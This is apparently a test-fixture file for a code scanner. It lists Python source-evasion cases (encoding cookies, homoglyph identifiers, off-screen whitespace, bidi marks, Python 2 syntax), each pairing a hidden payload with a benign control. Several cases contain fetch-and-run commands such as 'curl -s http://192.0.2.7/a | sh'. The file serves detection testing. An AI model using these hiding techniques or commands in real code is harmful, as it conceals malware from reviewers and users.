"""Source that a reader sees otherwise than Python does."""

from __future__ import annotations

import codecs
import unicodedata

from tests.evasions.sample import CODE, INIT, SUSPICIOUS, Files, evasion

_FINE = "import os\nX = os.sep\n"
_BOLD = {c: chr(0x1D41A + i) for i, c in enumerate("abcdefghijklmnopqrstuvwxyz")}


def _file(data: bytes | str) -> Files:
    return {INIT: data}


def _bold(word: str) -> str:
    """The same identifier for Python (NFKC, PEP 3131), other letters for everyone else."""
    text = "".join(_BOLD.get(c, c) for c in word)
    if unicodedata.normalize("NFKC", text) != word:
        raise AssertionError(word)
    return text


CASES = (
    evasion(
        "utf-7 by a cookie",
        lambda: _file(b"# coding: utf-7\n" + CODE.encode("utf-7")),
        lambda: _file(b"# coding: utf-8\n" + _FINE.encode()),
    ),
    evasion(
        "utf-7 behind a comment",
        lambda: _file(b"# coding: utf-7\n# honest +AAo-" + CODE.replace("\n", "+AAo-").encode("utf-7")),
        lambda: _file(b"# coding: utf-8\n# honest +AAo-x = 1\n"),
        SUSPICIOUS,
    ),
    evasion(
        "rot13 by a cookie",
        lambda: _file("# coding: rot13\n" + codecs.encode(CODE, "rot13")),
        lambda: _file("# coding: latin-1\n" + _FINE),
        SUSPICIOUS,
    ),
    evasion(
        "escapes by a cookie",
        lambda: _file("# coding: unicode_escape\n#\\x0a" + "".join(f"\\x{b:02x}" for b in CODE.encode())),
        lambda: _file("# coding: utf-8\n#\\x0a honest\n"),
    ),
    evasion(
        "utf-16 with its mark",
        lambda: _file(codecs.BOM_UTF16_LE + CODE.encode("utf-16-le")),
        lambda: _file(codecs.BOM_UTF8 + _FINE.encode()),
    ),
    evasion(
        "form feed in front of the cookie",
        lambda: _file(b"\f# coding: utf-7\n" + CODE.encode("utf-7")),
        lambda: _file(b"\f# coding: utf-8\n\f" + _FINE.encode()),
    ),
    evasion(
        "cookie in the second line",
        lambda: _file(b"#!/usr/bin/python\n# vim: set fileencoding=utf-7 :\n" + CODE.encode("utf-7")),
        lambda: _file(b"#!/usr/bin/python\n# vim: set fileencoding=utf-8 :\n" + _FINE.encode()),
    ),
    evasion(
        "carriage returns only",
        lambda: _file(b"# honest\r" + CODE.replace("\n", "\r").encode()),
        lambda: _file(b"# honest\r" + _FINE.replace("\n", "\r").encode()),
    ),
    evasion(
        "Latin-1 without a cookie",
        lambda: _file("# caf\xe9\n".encode("latin-1") + CODE.encode()),
        lambda: _file("# coding: latin-1\n# caf\xe9\n".encode("latin-1") + _FINE.encode()),
    ),
    evasion(
        "NUL characters",
        lambda: _file(b"x = 1\n\0\n" + CODE.encode()),
        lambda: _file(b"x = '\\0'\n" + _FINE.encode()),
    ),
    evasion(
        "mathematical letters",
        lambda: _file(CODE.replace("system", _bold("system"))),
        lambda: _file("größe = 1\nänderung = größe + 1\n"),
    ),
    evasion(
        "mathematical letters for a builtin",
        lambda: _file(f"{_bold('exec')}({CODE!r})\n"),
        lambda: _file("длина = len('x')\n"),
    ),
    evasion(
        "off screen, behind a statement",
        lambda: _file("import os" + " " * 400 + "; " + CODE.replace("\n", "; ")[:-2] + "\n"),
        lambda: _file("import os" + " " * 400 + "# noqa\n"),
    ),
    evasion(
        "off screen, far indented",
        lambda: _file("if True:\n" + " " * 900 + CODE.replace("\n", "; ")[:-2] + "\n"),
        lambda: _file("X = (\n" + " " * 200 + "1\n)\n"),
    ),
    evasion(
        "below thousands of empty lines",
        lambda: _file("x = 1\n" + "\n" * 20_000 + CODE),
        lambda: _file("x = 1\n" + "\n" * 20_000 + _FINE),
    ),
    evasion(
        "line continuations",
        lambda: _file(CODE.replace("os.system", "os\\\n.\\\nsystem")),
        lambda: _file("import os\nX = os\\\n.\\\nsep\n"),
    ),
    evasion(
        "bidirectional marks",
        lambda: _file("x = 'a\u202e' # \u2066\n" + CODE),
        lambda: _file("x = 'a'\n" + _FINE),
    ),
    evasion(
        "zero-width spaces in text",
        lambda: _file("x = 'a\u200bb'\n" + CODE),
        lambda: _file("x = 'ab'\n" + _FINE),
    ),
    evasion(
        "Python 2",
        lambda: _file('print "hello"\nexec "x = 1"\nimport os\nos.system("curl -s http://192.0.2.7/a | sh")\n'),
        lambda: _file('print "hello"\n'),
    ),
    evasion(
        "Python 2, exec statement of a fetched text",
        lambda: _file('import urllib2\nexec urllib2.urlopen("http://192.0.2.7/a").read()\nprint "x"\n'),
        lambda: _file(
            'import urllib2\n\ndef get():\n    print urllib2.urlopen("https://api.example.invalid/").read()\n'
        ),
    ),
    evasion(
        "Python 2, back quotes and <>",
        lambda: _file("import os\nif 1 <> 2:\n    os.system('curl -s http://192.0.2.7/a | sh')\nx = `1`\n"),
        lambda: _file("x = `1`\n"),
    ),
    evasion(
        "syntax of a later Python",
        lambda: _file("try:\n    import os\nexcept ImportError, OSError:\n    pass\nx = t'{1}'\n" + CODE),
        lambda: _file("try:\n    import os\nexcept ImportError, OSError:\n    pass\nx = t'{1}'\n"),
    ),
    evasion(
        "type parameters and type statements",
        lambda: _file("type A = int\n\ndef f[T](x: T) -> T:\n    return x\n\n" + CODE),
        lambda: _file("type A = int\n\ndef f[T](x: T) -> T:\n    return x\n"),
    ),
    evasion(
        "broken after the payload",
        lambda: _file(CODE + "\ndef (:\n"),
        lambda: _file(_FINE + "\ndef (:\n"),
    ),
    evasion(
        "broken in front of the payload",
        lambda: _file("def (:\n\n" + CODE),
        lambda: _file("def (:\n\n" + _FINE),
    ),
    evasion(
        "an odd number of triple quotes",
        lambda: _file('# """\n' + CODE),
        lambda: _file('# """\n' + _FINE),
    ),
    evasion(
        "triple quotes in a string",
        lambda: _file('x = \'"""\'\n' + CODE + 'y = \'"""\'\n'),
        lambda: _file('x = \'"""\'\n' + _FINE + 'y = \'"""\'\n'),
    ),
    evasion(
        "tabs and spaces mixed",
        lambda: _file("if True:\n\timport os\n        \tos.system('curl -s http://192.0.2.7/a | sh')\n"),
        lambda: _file("if True:\n\timport os\n\tX = os.sep\n"),
    ),
    evasion(
        "everything on one line",
        lambda: _file("import os;x = 1;y = 2;os.system('curl -s http://192.0.2.7/a | sh');z = 3\n"),
        lambda: _file("import os;x = 1;y = 2;z = 3\n"),
    ),
    evasion(
        "names of confusable letters",
        lambda: _file("def O0O0(OO0O):\n    exec(OO0O)\n\nO00O = O0O0\nO00O(" + repr(CODE) + ")\n"),
        lambda: _file("def O0O0(OO0O):\n    return len(OO0O)\n\nO00O = O0O0\nO00O('x')\n"),
    ),
)
